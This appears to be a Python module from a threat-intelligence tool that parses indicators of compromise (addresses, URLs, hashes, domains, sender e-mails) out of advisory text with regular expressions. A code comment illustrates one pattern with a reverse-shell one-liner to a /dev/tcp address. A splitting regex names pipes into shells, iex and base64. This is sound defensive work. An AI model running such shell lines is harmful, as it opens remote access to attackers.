"""Extraction of values from running text: a line of an advisory, a cell, an e-mail.

The text is refanged as a whole, then cut into URLs, ranges and words, and every word is judged by its shape.
There is no backtracking, so the time is linear in the text's length.
"""

from __future__ import annotations

import re
from collections import deque
from collections.abc import Iterable, Iterator
from ipaddress import ip_network

from lamsach.indicators.judge.loop import judge
from lamsach.indicators.judge.rule import Observable, Scope
from lamsach.indicators.values import addresses, refusals
from lamsach.indicators.values.names import (
    INTERNAL_TOP_LEVELS,
    is_file_extension,
    may_be_file_name,
    suffixes,
    to_ascii_domain,
    without_picture,
)
from lamsach.indicators.values.normalise import Refused, Value, canonical_values
from lamsach.indicators.values.refang import refang
from lamsach.model import IndicatorType

_IPV6 = re.compile(
    r"[0-9a-f]{0,4}(?::[0-9a-f]{0,4}){2,7}(?:(?<=:)\d{1,3}(?:\.\d{1,3}){3})?(?:%\w{1,20})?(?:/\d{1,3})?",
    re.IGNORECASE | re.ASCII,
)


_QUAD = r"[0-9]{1,3}(?:\.[0-9]{1,3}){3}"
_DIGEST = r"([0-9a-f]{64}|[0-9a-f]{40}|[0-9a-f]{32})"
_COMPOUNDS = (
    # setup.exe:0f4c..
    re.compile(rf"[^:/\\]{{1,250}}\.[^:/\\]{{1,16}}:{_DIGEST}", re.IGNORECASE | re.ASCII),
    # 203.0.113.5#53: BIND and dig write an address and its port so
    re.compile(rf"({_QUAD})#[0-9]{{1,5}}", re.ASCII),
    # 203.0.113.5/203.0.113.6, but not 203.0.113.0/255.255.255.0
    re.compile(rf"({_QUAD})/(?!(?:255|0)\.)({_QUAD})(?:/({_QUAD}))?", re.ASCII),
    # evil.example:203.0.113.5
    re.compile(rf"([a-z0-9][\w-]{{0,62}}(?:\.[\w-]{{1,63}}){{1,8}}):({_QUAD})", re.IGNORECASE),
    # TCP_MISS/200 GET http://evil.example/a HIER_DIRECT/203.0.113.5: the asked server in Squid's log
    re.compile(rf"(?:HIER_[A-Z_]{{3,24}}|DIRECT|[A-Z_]{{3,24}}_PARENT)/({_QUAD})", re.ASCII),
    # bash -i >& /dev/tcp/203.0.113.5/4444 0>&1
    re.compile(r"/dev/(?:tcp|udp)/([\w.-]{4,253})/\d{1,5}", re.ASCII),
    # imphash:0f4c..    Domain:evil.example
    re.compile(r"[\w-]{1,24}:([^/\\].*)", re.DOTALL),
    # \\203.0.113.5@8080\share
    re.compile(r"\\{2,}([^\\@]*).*", re.DOTALL),
)
"""Words of several parts, each read as a word of its own; the first form that matches counts."""


_SCHEMES = (
    r"(?:https?|ftps?|sftp|wss?|tcp|udp|tls|ssl|dns|socks[45]?|stratum\+(?:tcp|ssl|tls)|ldaps?|rmi"
    r"|smb|ssh|irc|telnet|git|file)"
)
_TOKEN = re.compile(
    rf"(?<![a-z0-9])(?P<url>{_SCHEMES}://[^\s<>\"“”‘’]+)"
    r"|(?<![\w.])(?P<range>[0-9]{1,3}(?:\.[0-9]{1,3}){3}\s?(?:[-–—~]|to|đến)\s?[0-9]{1,3}"
    r"(?:\.[0-9]{1,3}){3}|[0-9]{1,3}(?:\.[0-9]{1,3}){3}[-–—~][0-9]{1,3})(?![\w.]*\w)"
    r"|(?<![\w.])(?P<masked>[0-9]{1,3}(?:\.[0-9]{1,3}){3},?[ \t]{1,3}(?:(?:\(?(?:subnet )?"
    r"(?:net)?mask[ \t:=]{1,3})?\(?(?:255|0)(?:\.[0-9]{1,3}){3}|/[0-9]{1,2}(?![/.]\d)))(?![\w.])"
    r"|(?P<email>[^\s<>\"'“”,;:|()\[\]{}\\/@]{1,64}@(?=\w)[\w.-]{1,253}(?![\w@]))"
    r"|jndi:(?P<named>(?:ldaps?|rmi|dns)://[^\s<>\"“”‘’}]+)"
    r"|(?P<word>[^\s<>\"'“”‘’„,;|()\[\]{}=`^…«»•‹›–—←-⇿➔➜➡➤►▶\ufe0f「」『』]+)",
    re.IGNORECASE,
)
_NEXT_URL = re.compile(
    rf"(?<=[\w;,])(?=[a-z]:\\\w)|[,;|*@]+(?={_SCHEMES}://)|'(?=\.\w{{1,20}}\()|(?<=[a-z0-9])"
    rf"(?=https?://)|\]\(|\\?'(?=[,;)\]\\]|$)|&quot;|\\n|\\r|\\'|\\\"|(?<![?&=])&&(?=\w)|\|(?="
    rf"\s?(?:(?:ba|z|da|k)?sh|iex|python\d?|perl|php|base64)\b)",
    re.IGNORECASE,
)
_INNER_URL = re.compile(rf"{_SCHEMES}://", re.IGNORECASE)
_LINK_TEXT = re.compile(r"(?<=/)\[(?=[\w_*])|\[$")
"""End of a URL where its link text begins (AsciiDoc): `https://host/page/[text`."""
# http://evil.example/a.exe,file: C:\\a.exe, followed by a label; ^(https://evil.example/)([a-z]{0,50})?
_NEXT_LABEL = re.compile(r",[a-z]{2,20}:$", re.IGNORECASE)
_EXPRESSION = re.compile(r"[^()]{1,2000}\)[(\[{*+?]")
_PAIRS = {")": "(", "]": "[", "}": "{"}
HASH_NAMED_FILE = re.compile(rf"{_DIGEST}(?:[._-][\w.-]*)?", re.IGNORECASE | re.ASCII)
# 0f4c..:setup.exe
_HASH_AND_NAME = re.compile(rf"{_DIGEST}[:/](?=[^:\s])", re.IGNORECASE | re.ASCII)
_STARRED = re.compile(r"[0-9]{1,3}(?:\.[0-9]{1,3}){1,2}(?:\.\*){1,2}", re.ASCII)
_ENDS = re.compile(_QUAD, re.ASCII)
_RANGE = re.compile(r"[0-9]{1,3}(?:\.[0-9]{1,3}){3}-[0-9]{1,3}(?:\.[0-9]{1,3}){0,3}", re.ASCII)
# evil.example:1604:secret
_HOST_PORT_MORE = re.compile(r"([^/?#:\\]{1,253}:\d{1,5}):[^/:]")
_HOST = re.compile(r"[^/?#:\\]*")
_EMAIL = re.compile(r"[^@/\\]+@[\w.-]+\.\w+")
_MAX_PARTS = 4
"""Maximum nesting depth of words in words."""

# Sender address: a@evil.example    Sender e-mail(s): a@evil.example, b@evil.example    Người gửi: ..
_SENDER = re.compile(
    r"\b(?:senders?(?: e-?mails?)?(?: address(?:es)?)?(?:\(e?s\))?|(?:người gửi|phát tán)(?: thư)?)"
    r"\s?[:=]\s?(?:[^\s:;]{1,80}[,;]\s){0,8}$",
    re.IGNORECASE,
)
_LABEL_LENGTH = 400
# %windir%\system32\rundll32.exe,evil.com    C:\Users\Public\a (evil).top
_PATH = re.compile(
    r"[\"“](?:%[\w()]{2,40}%|[a-z]:)\\[^\"”\n]{1,1000}[\"”]|(?:%[\w()]{2,40}%|"
    r"(?<![\w])[a-z]:)\\[^\s\"“”'<>|]*",
    re.IGNORECASE,
)

_FOOTNOTE_MARKS = "\u00b9\u00b2\u00b3\u2070\u2074\u2075\u2076\u2077\u2078\u2079†‡§※"
"""Superscript figures and other footnote marks after a word."""

PIECE = 32 * 1024
"""Length of the pieces in which a long line is searched, in characters."""

Found = Value | Refused


def scan(text: str) -> Iterator[Found]:
    """Yield every value in a text, in order; refused ones as Refused."""
    for _, found in locate(text):
        yield found


def locate(text: str) -> Iterator[tuple[str, Found]]:
    """Yield the values of `scan`, each with its piece of the refanged text."""
    refanged = refang(text)
    written = text.lower()
    paths = deque(match.span() for match in _PATH.finditer(refanged)) if "\\" in refanged else deque()
    for match in _tokens(refanged):
        kind = match.lastgroup or ""
        text = match[kind]
        if kind == "url":
            if refanged.startswith("++", max(0, match.start() - 2)):  # ++http://evil.example/a++ of AsciiDoc
                text = text.rstrip("`").removesuffix("++")
            for place, part in enumerate(_NEXT_URL.split(text)):
                part = part.lstrip("'\",;|()[]@{}") if place else part
                yield from ((part, found) for found in _url(part, written))
        elif kind == "word":
            while paths and paths[0][1] <= match.start():
                paths.popleft()
            inside = bool(paths) and paths[0][0] <= match.start()
            for found in _word(text.rpartition("\\")[2] if inside else text, written):
                yield text, _judge_in_path(found) if inside else _judge_word(found, refanged, match, written)
        else:
            label = refanged[max(0, match.start() - _LABEL_LENGTH) : match.start()]
            items: Iterable[Found] | None = None
            if kind == "range":
                items = _range(text, refanged, match, written)
            elif kind in ("email", "masked"):
                items = _email(text, label) if kind == "email" else _masked(text)
            yield from ((text, found) for found in items or _values(text))


def _tokens(text: str) -> Iterator[re.Match[str]]:
    """Yield the tokens of a text; a URL after a label begins its own (`url:http://evil.example/a?b=c`)."""
    place = 0
    while (match := _TOKEN.search(text, place)) is not None:
        word = match["word"]
        if word and (inner := _inner_url(word)):
            match = _TOKEN.search(text, match.start(), match.start() + inner) or match
        yield match
        place = match.end()


def _inner_url(word: str) -> int | None:
    """Return the offset of a URL in a word; None in a path (`archive.example/1/http://evil.example`)."""
    match = _INNER_URL.search(word) if "://" in word else None
    if match is None:
        return None
    before = word[: match.start()]
    return None if before.endswith("/") and "." in before else match.start()


def _masked(token: str) -> Iterator[Found]:
    """Yield a network in router notation, with its mask (255.255.255.0) or wildcard mask (0.0.0.255)."""
    first, mask = token.split()[0].rstrip(","), token.split()[-1].lstrip("(/")
    try:
        yield from _values(str(ip_network(f"{first}/{mask}", strict=False)))
    except ValueError:
        yield from _values(first)
        yield from _values(mask)


def _range(token: str, text: str, match: re.Match[str], written: str) -> list[Found]:
    """Return the ends of a range that are versions of a program (`FortiOS 7.0.1.4 to 7.2.0.8`), or none."""
    ends = [found for end in _ENDS.findall(token) for found in _values(end)]
    judged = [_judge_word(found, text, match, written) for found in ends]
    versions = all(isinstance(found, Refused) and found.reason == refusals.VERSION for found in judged)
    return judged if versions else []


def _email(token: str, before: str) -> Iterator[Found]:
    """Yield a labelled sender's address, refuse any other; yield the server of `root@host`."""
    host = token.rstrip(".-").rpartition("@")[2]
    if addresses.parse_v4(host) is not None:  # ssh root@203.0.113.5
        yield from _values(host)
    elif _EMAIL.fullmatch(token.rstrip(".-")):
        if _SENDER.search(before):
            yield from _values(token.rstrip(".-"), IndicatorType.EMAIL)
        else:
            yield Refused(refusals.EMAIL, token.rstrip(".-"))


def _judge_word(found: Found, text: str, match: re.Match[str], written: str) -> Found:
    """Judge a word's value by the surrounding text: a call in code, a version; defanged values pass."""
    if isinstance(found, Refused):
        return found
    kind, value = found
    token = match[0]
    if kind is IndicatorType.IP and token.lower() not in written:
        return found
    inside = token.lower().find(value[:8])  # after a label: `imphash:0f4c..`
    return judge(
        Scope.WORD, Observable(kind, value, token, text, match.start() + max(0, inside), match.end())
    )


def _judge_in_path(found: Found) -> Found:
    """Judge a value in the path of a file: a name there is the file's."""
    return (
        found if isinstance(found, Refused) else judge(Scope.PATH, Observable(*found, found[1], found[1], 0))
    )


def _url(text: str, written: str) -> Iterator[Found]:
    text = _trim(_NEXT_LABEL.sub("", text) if text.endswith(":") else text)
    if ")" in text and _EXPRESSION.match(text):
        yield Refused(refusals.BAD_URL, text)
    elif "://" in text:
        yield from _values(text)
    elif _PATH.match(text):
        yield from map(_judge_in_path, _word(text.rpartition("\\")[2], written))
    elif text:
        yield from _word(text, written)


def _trim(text: str) -> str:
    """Trim the sentence's punctuation around a URL; brackets closed within it stay.

    A link text after the URL (AsciiDoc: `https://host/page[text]`) is cut off, unless only the host would
    remain.
    """
    start, bracket, rest = text.rpartition("[")
    if (
        bracket
        and start.count("/") > 2
        and "?" not in start
        and not start.endswith("://")
        and "]" not in rest[:-1].rstrip("].,;)")
    ):
        text = start
    path = text.partition("?")[0]
    if (link := _LINK_TEXT.search(path, path.find("://") + 4)) is not None:
        text = path[: link.start()]
    while text:
        last = text[-1]
        closes_nothing = last in _PAIRS and text.count(last) > text.count(_PAIRS[last])
        if not (closes_nothing or last in ".,;:!?'’*|\\`…({[」』》、，；" or last in _FOOTNOTE_MARKS):
            break
        text = text[:-1]
    return text


def _values(text: str, kind: IndicatorType | None = None) -> Iterator[Found]:
    try:
        yield from canonical_values(text, kind)
    except Refused as refused:
        if refused.value is None:
            refused.value = text
        yield refused


def _bare(word: str) -> str:
    word = without_picture(word).strip("-–—·!?&#+~*").rstrip(_FOOTNOTE_MARKS).rstrip(".:")
    if word.startswith("_") and word.endswith("_"):
        word = word.strip("_")
    word = word if word.startswith("::") else word.lstrip(":")
    if word.startswith("%") and (word.endswith("%") or word[1:2] == "."):  # SQL: LIKE '%evil.example%'
        word = word.strip("%")
    if word.startswith("\\") and HASH_NAMED_FILE.fullmatch(word, 1):  # sha256sum, of a name with an escape
        word = word[1:]
    return word


def _word(word: str, written: str, depth: int = 0) -> Iterator[Found]:
    if _STARRED.fullmatch(word):
        yield from _values(word)
        return
    if (inner := _inner_url(word)) is not None:  # url:http://evil.example/a
        yield from _word(word[:inner], written, depth)
        yield from _url(word[inner:], written)
        return
    word = _bare(word)
    if len(word) < 4:
        if word == "::1":
            yield from _values(word)
        return
    if match := HASH_NAMED_FILE.fullmatch(word):
        yield from _values(match[1])
    elif match := _HASH_AND_NAME.match(word):
        yield from _values(match[1])
        yield from _word(word[match.end() :], written, depth + 1)
    elif _RANGE.fullmatch(word) or (":" in word and _is_ipv6(word)):
        yield from _values(word)
    elif parts := _compound_parts(word) if depth < _MAX_PARTS and not word.isalnum() else ():
        for part in parts:
            yield from _word(part, written, depth + 1)
    elif "." in word and "\\" not in word and not word.startswith(("/", "./", "../", "~")):
        yield from _dotted(word, written)
    elif len(word) == 128 and all(character in "0123456789abcdefABCDEF" for character in word):
        yield Refused(refusals.OTHER_HASH, word.lower())


def _is_ipv6(word: str) -> bool:
    """Return whether a word is an IPv6 address: no time, MAC address, scope (`a::b`) or row of hex pairs."""
    if not _IPV6.fullmatch(word) or not any(character.isdigit() for character in word):
        return False
    groups = [group for group in word.partition("/")[0].split(":") if group]
    long = any(len(group) > 2 for group in groups)
    return long or ("::" in word and (len(groups) != 2 or len(groups[0]) > 2))


def _compound_parts(word: str) -> list[str]:
    match = next(filter(None, (pattern.fullmatch(word) for pattern in _COMPOUNDS)), None)
    return [part for part in match.groups() if part] if match else []


def _dotted(word: str, written: str) -> Iterator[Found]:
    """Yield the value of a word with a dot. `written`, the text in lower case, shows defanged names."""
    if "@" in word:
        if _EMAIL.fullmatch(word):
            yield Refused(refusals.EMAIL, word)
        return
    if match := _HOST_PORT_MORE.match(word):
        word = match[1]
    host = _HOST.match(word)[0]  # type: ignore[index]
    if addresses.parse_v4(host) is not None:
        yield from _values(word)
        return
    name = to_ascii_domain(host.lstrip("*."))
    if name is None or "." not in name:
        return
    last = host.rpartition(".")[2]
    cased_like_a_name = last == last.lower() or host == host.upper()  # unlike `System.In` and `Agent.AI`
    last = name.rpartition(".")[2]
    bare = len(host) == len(word) or word[len(host)] == ":"
    if is_file_extension(last) and last not in suffixes().top_levels:
        if bare:
            yield Refused(refusals.FILE_NAME, word)
    elif bare and may_be_file_name(name, in_sentence=True) and name in written:
        yield Refused(refusals.FILE_NAME, name, IndicatorType.DOMAIN)
    elif (last in suffixes().top_levels or last in INTERNAL_TOP_LEVELS) and cased_like_a_name:
        yield from _values(word)


def pieces(text: str) -> Iterator[str]:
    """Yield a long text in pieces, cut after spaces or commas if there are any."""
    place = 0
    while len(text) - place > PIECE:
        ends = [text.rfind(mark, place + 1, place + PIECE) for mark in " \t,;|"]
        end = max(ends) + 1 or place + PIECE
        yield text[place:end]
        place = end
    yield text[place:]
